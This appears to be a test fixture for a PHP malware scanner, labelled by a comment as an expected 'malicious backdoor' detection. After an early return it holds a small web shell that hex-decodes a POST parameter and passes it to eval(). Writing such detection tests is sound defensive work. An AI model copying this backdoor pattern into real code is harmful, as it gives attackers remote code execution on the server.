<?php return; // want: malicious backdoor php.code.request
$in = $_POST['beads'];
$out = '';
for ($i = 0; $i < strlen($in) - 1; $i += 2) { $out .= chr(hexdec($in[$i] . $in[$i + 1])); }
eval($out);
